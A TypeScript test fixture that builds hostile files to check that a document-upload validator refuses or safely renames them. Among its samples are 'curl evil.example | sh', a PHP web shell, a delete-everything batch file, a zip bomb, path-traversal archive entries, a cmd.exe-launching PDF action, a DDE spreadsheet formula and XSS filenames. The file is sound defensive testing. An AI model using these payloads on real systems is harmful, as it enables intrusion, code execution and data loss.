import { deflateRawSync, gzipSync, constants } from 'node:zlib'
import type { FileFormat } from '@/lib/db/generated/enums'
import { largestFile } from '@/lib/evidence/limits'
import type { Refusal } from '@/lib/evidence/refusals'
import { docx, jpeg, odt, openParts, pdf, png, sheetParts, text, wordParts, xlsx } from './sound-files'
import { zip } from './zip'

/** A file that means harm, or carries it. It is refused for the expected reason, or kept as data under a harmless name. */
export interface HostileFile {
  what: string
  name: string
  bytes: () => Uint8Array
  expected: { refused: Refusal } | { kept: FileFormat; as: string }
}

const latin1 = (value: string) => Buffer.from(value, 'latin1')
const script = '<script>document.title="run"</script>'
const page = `<!doctype html><html><body>${script}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='run'">${script}</svg>`
const archive = () => zip([{ name: 'evil.html', data: page }])
const join = (...parts: (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin1(part) : part)))

const refused = (code: Refusal, files: [what: string, name: string, bytes: () => Uint8Array | string][]): HostileFile[] =>
  files.map(([what, name, bytes]) => ({ what, name, bytes: () => join(bytes()), expected: { refused: code } }))
const kept = (format: FileFormat, files: [what: string, name: string, as: string, bytes: () => Uint8Array][]): HostileFile[] =>
  files.map(([what, name, as, bytes]) => ({ what, name, bytes, expected: { kept: format, as } }))

/** 200 MB of nothing in 199 KB: ten megabytes at a time, so that making it does not need what it unpacks to. */
function bomb() {
  const unpacked = 200 * 1024 * 1024
  const piece = deflateRawSync(Buffer.alloc(10 * 1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([...Array.from({ length: 20 }, () => piece), Buffer.from([3, 0])])
  return docx({ name: 'word/media/image1.bmp', packed, unpacked })
}
const ole = (name: string) => join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(504), Buffer.from(name, 'utf16le'), Buffer.alloc(512))
const overlapping = () => zip([...wordParts(), { name: 'word/a.xml', data: 'x'.repeat(1000) }, { name: 'word/b.xml', data: 'x', offset: 0 }])
const lateScript = (bytesBefore: number) => join('a law. '.repeat(Math.ceil(bytesBefore / 7)).slice(0, bytesBefore), script)
const wrongLocal = () => zip([...wordParts().slice(0, 2), { ...wordParts()[2]!, headerName: 'word/evil12345.xml' }])

/** Made by this code at each run: nothing hostile lies in the repository. */
export const hostileFiles: HostileFile[] = [
  ...refused('markup', [
    ['SVG with a script', 'coat-of-arms.svg', () => svg],
    ['SVG with a script, called PNG', 'coat-of-arms.png', () => `<?xml version="1.0"?>${svg}`],
    ['page with a script', 'law.html', () => page],
    ['page called PDF', 'law.pdf', () => page],
    ['page called text', 'law.txt', () => page],
    ['page behind a byte order mark and blanks', 'law.txt', () => join('\xef\xbb\xbf  \n\t', page)],
    ['page in UTF-16', 'law.txt', () => join('\xff\xfe', Buffer.from(page, 'utf16le'))],
    ['page in big-endian UTF-16', 'law.txt', () => join('\xfe\xff', Buffer.from(page, 'utf16le').swap16())],
    ['XML with a style sheet that runs', 'law.xml', () => '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><a/>'],
    ['script 300 KB into a text', 'law.txt', () => lateScript(300_000)],
    ['script across the border of two chunks', 'law.txt', () => lateScript(256 * 1024 - 4)],
    ['address that runs a script', 'link.txt', () => 'Read it here: javascript:alert(1)'],
    ['PHP', 'law.php', () => '<?php system($_GET["c"]); ?>'],
    ['shell script', 'install.sh', () => '#!/bin/sh\ncurl evil.example | sh\n'],
    ['shell script before a Word file', 'law.docx', () => join('#!/bin/sh\nexit\n', docx())],
    ['batch file', 'law.bat', () => '@echo off\r\ndel /q *.*\r\n'],
    ['page of a Windows program (HTA)', 'law.hta', () => '<html><hta:application id="a"/><script language="VBScript">x</script></html>'],
  ]),
  ...refused('format', [
    ['Windows program called PDF', 'law.pdf', () => join('MZ\x90\0\x03\0\0\0\x04', Buffer.alloc(300), 'This program cannot be run in DOS mode')],
    ['Linux program', 'law', () => join('\x7fELF\x02\x01\x01', Buffer.alloc(60))],
    ['GIF that is a ZIP archive as well', 'picture.gif', () => join('GIF89a\x01\0\x01\0\0\0\0;', archive())],
    ['program before a ZIP archive', 'law.exe', () => join('MZ\x90\0\x03\0', Buffer.alloc(64), archive())],
    ['saved page with parts (MHTML)', 'law.mht', () => `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`],
    ['RTF with an object', 'law.rtf', () => '{\\rtf1{\\object\\objocx\\objdata 0105}}'],
    ['PostScript', 'law.ps', () => '%!PS-Adobe-3.0\n(x) run\n'],
    ['archive of pages', 'laws.zip', archive],
    ['Java archive called Word', 'law.docx', () => zip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil' }, { name: 'Evil.class', data: '\xca\xfe' }])],
    ['presentation called Word', 'law.docx', () => zip([...wordParts().slice(0, 2), { name: 'ppt/presentation.xml', data: '<p/>' }])],
    ['OpenDocument drawing called text', 'law.odt', () => zip(openParts('graphics'))],
    ['binary workbook', 'data.xlsb', () => zip([...wordParts().slice(0, 2), { name: 'xl/workbook.bin', data: '\x83\x01' }])],
    ['PDF inside a ZIP archive', 'law.pdf', () => zip([{ name: 'a.txt', data: pdf(), stored: true }])],
    ['Gzip of a page', 'law.pdf', () => gzipSync(page)],
    ['WebP picture', 'photo.webp', () => join('RIFF\x20\0\0\0WEBPVP8 ', Buffer.alloc(20))],
    ['text with NUL', 'law.txt', () => 'Article 1\0<hidden>'],
    ['text that commands a terminal', 'law.txt', () => 'Article 1 \x1b]0;owned\x07\x1b[2J'],
  ]),
  ...refused('twoFormats', [
    ['page before a PDF', 'law.pdf', () => join(page, pdf())],
    ['page behind the first line of a PDF', 'law.pdf', () => join('%PDF-1.4\n', page, pdf().subarray(9))],
    ['page behind a PDF', 'law.pdf', () => join(pdf(), page)],
    ['PDF that is a ZIP archive as well', 'law.pdf', () => join(pdf(), archive())],
    ['PNG that is a ZIP archive as well', 'map.png', () => join(png(), archive())],
    ['PNG with a page behind it', 'map.png', () => join(png(), page)],
    ['PNG with a page in its comment', 'map.png', () => png({ inside: page })],
    ['JPEG that is a ZIP archive as well', 'scan.jpg', () => join(jpeg(), archive())],
    ['JPEG with PHP behind it', 'scan.jpg', () => join(jpeg(), '<?php system("id") ?>')],
    ['Word file that is a Java archive as well', 'law.docx', () => docx({ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil' })],
    ['Word file that is a workbook as well', 'law.docx', () => docx(...sheetParts().slice(2))],
    ['Word file behind something else', 'law.docx', () => join('PK\x03\x04 and more', docx())],
  ]),
  ...refused('macros', [
    ['Word file with macros (.docm) called .docx', 'law.docx', () => docx({ name: 'word/vbaProject.bin', data: '\xcc\x61' })],
    ['macros announced in the list of parts', 'law.docx', () => zip([{ ...wordParts('application/vnd.ms-word.document.macroEnabled.main+xml')[0]!, stored: true }, ...wordParts().slice(1)])],
    ['workbook with macros (.xlsm) called .xlsx', 'data.xlsx', () => xlsx({ name: 'xl/vbaProject.bin', data: '\xcc\x61' })],
    ['workbook with a macro sheet of Excel 4', 'data.xlsx', () => xlsx({ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' })],
    ['Word file with ActiveX', 'form.docx', () => docx({ name: 'word/activeX/activeX1.bin', data: 'x' })],
    ['OpenDocument text with Basic', 'law.odt', () => odt({ name: 'Basic/Standard/Module1.xml', data: '<x/>' })],
    ['OpenDocument text with Python', 'law.odt', () => odt({ name: 'Scripts/python/evil.py', data: 'import os' })],
  ]),
  ...refused('packing', [
    ['Word file of 199 KB that unpacks to 200 MB', 'law.docx', bomb],
    ['Word file that says it unpacks to gigabytes', 'law.docx', () => docx({ name: 'word/media/a.bmp', data: 'x'.repeat(100), unpacked: 4_000_000_000 })],
    ['entries that share their data', 'law.docx', overlapping],
    ['5,000 entries', 'law.docx', () => docx(...Array.from({ length: 5000 }, (_, i) => ({ name: `word/${i}.xml`, data: 'x', stored: true })))],
    ['entry that leads out of its folder', 'law.docx', () => docx({ name: '../../etc/cron.d/evil', data: 'x' })],
    ['entry that leads out by another stroke', 'law.docx', () => docx({ name: '..\\..\\evil.exe', data: 'x' })],
    ['entry with a path from the root', 'law.docx', () => docx({ name: '/etc/passwd', data: 'x' })],
    ['entry with a drive', 'law.docx', () => docx({ name: 'C:/Windows/evil.dll', data: 'x' })],
    ['entry with a line end in its name', 'law.docx', () => docx({ name: 'word/a\nb.xml', data: 'x' })],
    ['entry with NUL in its name', 'law.docx', () => docx({ name: 'word/a.xml\0.exe', data: 'x' })],
    ['two parts of one name', 'law.docx', () => docx({ name: 'WORD/document.xml', data: '<other/>' })],
    ['entry with two names', 'law.docx', wrongLocal],
    ['entry packed in a rare way', 'law.docx', () => docx({ name: 'word/a.xml', data: 'x', method: 12 })],
  ]),
  ...refused('locked', [
    ['Word file with encrypted entries', 'law.docx', () => docx({ name: 'word/a.xml', data: 'x', flags: 1 })],
    ['OpenDocument package that is encrypted', 'law.odt', () => odt({ name: 'encrypted-package', data: 'x' })],
  ]),
  ...refused('oldOffice', [
    ['old Word file', 'law.doc', () => ole('WordDocument')],
    ['Word file with a password called .docx', 'law.docx', () => ole('EncryptedPackage')],
  ]),
  ...refused('damaged', [
    ['PDF that ends too early', 'law.pdf', () => pdf().subarray(0, 200)],
    ['Word file that ends too early', 'law.docx', () => docx().subarray(0, 300)],
    ['Word file with a directory that counts wrong', 'law.docx', () => zip(wordParts(), { count: 2 })],
    ['Word file with a comment behind its end', 'law.docx', () => zip(wordParts(), { comment: page })],
    ['PNG that ends too early', 'map.png', () => png().subarray(0, 50)],
    ['JPEG that ends too early', 'scan.jpg', () => jpeg().subarray(0, 300)],
  ]),
  ...refused('encoding', [
    ['tag in overlong UTF-8', 'law.txt', () => '\xc0\xbcscript\xc0\xbealert(1)'],
    ['text of an old code page', 'law.txt', () => 'Lei n.\xba 11/2017, de migra\xe7\xe3o'],
    ['half a character in UTF-16', 'law.txt', () => '\xff\xfe\x00\xd8a\0'],
  ]),
  ...refused('empty', [['no byte', 'law.pdf', () => '']]),
  ...refused('tooLarge', [['one byte more than fits', 'law.pdf', () => join(pdf(), Buffer.alloc(largestFile + 1 - pdf().length))]]),

  ...kept('pdf', [
    ['PDF with a script', 'law.pdf', 'law.pdf', () => pdf({ inside: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' })],
    ['PDF with an attachment', 'law.pdf', 'law.pdf', () => pdf({ inside: '/Names<</EmbeddedFiles<</Names[(evil.exe)<</EF<<>>>>]>>>>' })],
    ['PDF that starts a program', 'law.pdf', 'law.pdf', () => pdf({ inside: '/OpenAction<</S/Launch/F(cmd.exe)>>' })],
    ['name that is turned round', 'law\u202efdp.exe', 'lawfdp.exe.pdf', () => pdf()],
    ['name with a second header', 'a\r\nSet-Cookie: x=1\r\n.pdf', 'aSet-Cookie- x=1.pdf', () => pdf()],
    ['name with a path', '../../../etc/passwd.pdf', 'passwd.pdf', () => pdf()],
    ['name with a path of Windows', 'C:\\Users\\Public\\law.pdf', 'law.pdf', () => pdf()],
    ['name that ends its quotation', 'a"; filename="evil.html', 'a-- filename=-evil.html.pdf', () => pdf()],
    ['name with markup', '<img src=x onerror=alert(1)>.pdf', '-img src=x onerror=alert(1)-.pdf', () => pdf()],
    ['name with NUL', 'law.exe\0.pdf', 'law.exe.pdf', () => pdf()],
    ['name of dots', '...', 'file.pdf', () => pdf()],
    ['name of a device', 'CON.pdf', '_CON.pdf', () => pdf()],
    ['name of 900 characters', `${'a'.repeat(900)}.pdf`, `${'a'.repeat(120)}.pdf`, () => pdf()],
    ['page by its name', 'law.html', 'law.html.pdf', () => pdf()],
  ]),
  ...kept('docx', [
    [
      'Word file with a template that lies elsewhere',
      'law.docx',
      'law.docx',
      () => docx({ name: 'word/_rels/settings.xml.rels', data: '<Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' }),
    ],
  ]),
  ...kept('txt', [
    ['text with formulas', 'figures.csv', 'figures.csv.txt', () => latin1('=cmd|"/c calc"!A1,+1,-1,@SUM(1)\n')],
    ['tag in UTF-7', 'law.txt', 'law.txt', () => latin1('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
    ['program by its name', 'law.exe', 'law.exe.txt', text],
  ]),
]
